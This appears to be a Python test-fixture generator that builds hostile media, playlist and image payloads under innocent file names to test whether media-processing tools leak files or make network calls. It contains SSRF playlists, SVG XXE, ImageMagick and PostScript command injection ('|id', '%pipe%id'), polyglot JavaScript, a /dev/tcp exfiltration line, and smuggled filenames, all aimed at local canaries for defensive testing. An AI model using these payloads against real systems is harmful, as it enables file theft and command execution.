"""Scripts, playlists and drawings under the names of recordings, photos and letters: each points at the traps.

ffmpeg, ImageMagick, Ghostscript and office programs have opened all of these for somebody at some time.
"""

from collections.abc import Iterator

from tests.vectors.media.hostile import good
from tests.vectors.media.hostile.case import Case, Traps
from tests.vectors.media.hostile.movies import box

_PLAYED = (("video", "clip.mp4"), ("video", "clip.webm"), ("audio", "sound.mp3"), ("audio", "sound.wav"))
_DRAWN = (("letter", "page.jpg"), ("letter", "page.png"), ("letter", "letter.pdf"), ("video", "clip.mov"))


def cases(traps: Traps) -> Iterator[Case]:
    """Every script under several names, bare and behind the beginning of something that is taken."""
    for of, text in _playlists(traps):
        for kind, name in _PLAYED:
            yield Case(of, kind, name, text.encode())
        yield Case(of, "letter", "letter.txt", text.encode())
        yield from _behind(of, text.encode())
    for of, text in _drawings(traps):
        for kind, name in _DRAWN:
            yield Case(of, kind, name, text.encode())
    for name in ("%d.jpg", "page%03d.png", "img*.jpg", f"concat:{traps.file('ts')}|b.mp4", "fd:", "pipe:0", "-", "|id",
                 f"subfile,,start,0,end,99,,:{traps.file('ts')}", "http://127.0.0.1/a.mp4", "a\nb.jpg", "x" * 300 + ".jpg",
                 "../../canary.jpg", "page.jpg\0.pdf", "nul.jpg", "page\u202egpj.exe"):  # fmt: skip
        yield Case("names that say something to a program", "letter", name, good.files()["photo.jpg"][1])
    for name in ("%d.mp4", f"concat:{traps.file('ts')}", "-i.mp4", "tcp:.mp4"):
        yield Case("names that say something to a program", "video", name, good.files()["film.mp4"][1])


def _behind(of: str, script: bytes) -> Iterator[Case]:
    """What sniffing takes for a recording while a demuxer that guesses would find the script."""
    yield Case(f"{of}, behind an ID3 tag", "audio", "sound.mp3", b"ID3\x04\0\0\0\0\0\x0a" + bytes(10) + script)
    boxed = box(b"ftyp", b"isom", bytes(4)) + box(b"moov") + box(b"free", script)
    yield Case(f"{of}, behind a box", "video", "clip.mp4", boxed)
    yield Case(f"{of}, behind a box", "audio", "sound.m4a", boxed)
    yield Case(f"{of}, behind a mark", "video", "clip.mp4", b"\xef\xbb\xbf" + script)


def _playlists(traps: Traps) -> Iterator[tuple[str, str]]:
    file, http = f"file://{traps.file('ts')}", traps.url("canary.ts")
    listed = "#EXTM3U\n#EXT-X-TARGETDURATION:10\n{}#EXTINF:10,\n{}\n#EXT-X-ENDLIST\n"
    for what, where in (
        ("a file", file), ("a path", traps.file("ts")), ("an address", http), ("a neighbour", "../canary.ts"),
        ("concat", f"concat:{traps.file('txt')}|{http}"), ("subfile", f"subfile,,start,0,end,64,,:{traps.file('txt')}"),
        ("UDP", traps.url(scheme="udp")), ("crypto", f"crypto+{http}"), ("data", "data:text/plain;base64,AAAA"),
    ):  # fmt: skip
        yield f"HLS: {what}", listed.format("", where)
    yield "HLS: a key", listed.format(f'#EXT-X-KEY:METHOD=AES-128,URI="{http}"\n', file)
    yield "HLS: a map", listed.format(f'#EXT-X-MAP:URI="{file}"\n', file)
    yield "HLS: variants", f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{http}\n"
    yield "ffconcat: a file", f"ffconcat version 1.0\nfile '{traps.file('ts')}'\n"
    yield "ffconcat: an address", f"ffconcat version 1.0\nfile '{http}'\noption safe 0\n"
    yield "ffconcat: without its mark", f"file '{traps.file('ts')}'\nduration 5\n"
    yield (
        "DASH",
        (
            '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><AdaptationSet mimeType="video/mp4">'
            f"<Representation id='1' bandwidth='1'><BaseURL>{http}</BaseURL></Representation></AdaptationSet></Period></MPD>"
        ),
    )
    yield "SDP", f"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\nc=IN IP4 127.0.0.1\r\nm=video {traps.port} RTP/AVP 96\r\n"
    yield "SDP: over TCP", f"v=0\na=control:{traps.url(scheme='rtsp')}\nm=audio {traps.port} TCP/RTP 0\n"
    yield "PLS", f"[playlist]\nFile1={file}\nNumberOfEntries=1\n"
    yield "ASX", f'<asx version="3.0"><entry><ref href="{http}"/></entry></asx>'
    yield "M3U", f"{http}\n{file}\n"
    yield "SMIL", f'<smil><body><video src="{http}"/></body></smil>'
    yield "RAM", f"{traps.url(scheme='rtsp')}\n"
    yield "cue sheet", f'FILE "{traps.file("wav")}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n'
    yield (
        "IMF",
        f'<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>{http}</Id></CompositionPlaylist>',
    )
    yield "Avisynth", f'DirectShowSource("{traps.file("ts")}")\n'
    yield "VapourSynth", f"import os; os.system('cat {traps.file('txt')}')\n"
    yield "lavfi", f"movie={traps.file('ts')},scale=64:48\n"
    yield "ffmetadata", f";FFMETADATA1\ntitle={file}\n"
    yield "subtitles", f"WEBVTT\n\n00:00.000 --> 99:00.000\n<img src={http}>\n"


def _drawings(traps: Traps) -> Iterator[tuple[str, str]]:
    file, http = traps.file("png"), traps.url("canary.png")
    xlink = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    yield "SVG: pictures", f'<svg {xlink}><image xlink:href="file://{file}"/><image xlink:href="{http}"/></svg>'
    yield (
        "SVG: entities",
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://{file}">]><svg {xlink}>&x;</svg>',
    )
    yield "SVG: script", f'<svg {xlink}><script>fetch("{http}")</script></svg>'
    yield "PostScript", f"%!PS-Adobe-3.0\n({traps.file('txt')}) (r) file 999 string readstring pop show showpage\n"
    yield "PostScript: a program", "%!PS\n(%pipe%id) (r) file closefile\n"
    yield "EPS", f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n({traps.file('txt')}) run\n"
    yield "MVG", f"push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'url({http}|id)'\npop graphic-context\n"
    yield "MSL", f'<?xml version="1.0"?><image><read filename="{file}"/><write filename="/tmp/out.png"/></image>'
    yield "XPM", f'/* XPM */\nstatic char *a[] = {{"1 1 1 1","a c red","a"}};\n/* {file} */\n'
    yield "HTML", f'<html><img src="{http}"><iframe src="file://{traps.file("txt")}"></iframe></html>'
    yield (
        "flat ODF",
        f'<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">{http}</office:document>',
    )
    yield "MHTML", f"MIME-Version: 1.0\nContent-Type: multipart/related\nContent-Location: {http}\n\n<img src={file}>\n"
    yield "a link for a desktop", f"[InternetShortcut]\nURL={http}\n"
    yield "GIF and JavaScript", f"GIF89a/*\n*/=1;fetch('{http}');"
    yield "PDF and JavaScript", f"/*%PDF-1.7\n*/fetch('{http}')\n%%EOF\n"
    yield "shell", f"#!/bin/sh\ncat {traps.file('txt')} > /dev/tcp/127.0.0.1/{traps.port}\n"
